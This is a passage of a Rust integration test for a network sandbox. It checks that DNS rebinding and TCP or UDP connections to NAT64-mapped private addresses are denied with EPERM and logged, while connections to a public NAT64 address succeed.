    env.wait_event("dns_rebinding for the NAT64 answer", |e| {
        e["reason"] == "dns_rebinding" && e["name"] == "private64.test" && e["dst"] == PRIVATE_96
    });
    assert_eq!(
        sandboxed(&env, "open", "65534", PY_AAAA, &["public64.test"]),
        format!("rcode 0 {PUBLIC_96}"),
        "a NAT64 address of a public IPv4 resolves"
    );

    // In connect: the translator would carry these to 10.0.0.1 and 10.1.2.3.
    for target in [PRIVATE_96, PRIVATE_40] {
        let probe = TcpProbe::bind(&format!("[{target}]:0"));
        let got = sandboxed(
            &env,
            "open",
            "65534",
            PY_PROBE_PLAIN,
            &["tcp", target, &probe.addr.port().to_string()],
        );
        assert_eq!(got, "EPERM", "connect to {target}");
        settle();
        assert_eq!(
            probe.accepted(),
            0,
            "{target} accepted a sandboxed connection"
        );
        env.wait_event(&format!("deny_range {target}"), |e| {
            e["reason"] == "deny_range" && e["dst"] == target && e["hook"] == "connect6"
        });
        // And a datagram, judged per packet as well.
        let got = sandboxed(&env, "open", "65534", PY_PROBE_PLAIN, &["udp", target, "9"]);
        assert_eq!(got, "EPERM", "datagram to {target}");
    }
    let public = TcpProbe::bind(&format!("[{PUBLIC_96}]:0"));
    assert_eq!(
        sandboxed(
            &env,
            "open",
            "65534",
            PY_PROBE_PLAIN,
            &["tcp", PUBLIC_96, &public.addr.port().to_string()],
        ),
        "OK"
    );
    let rows = env.hb_json(&["maps", "dump", "nat64"]);
    assert!(
        rows.as_array()
            .expect("rows")
            .iter()
            .any(|r| r["prefix"] == "2001:db8:64::/96"),
        "nat64 dump: {rows}"
    );
}

struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
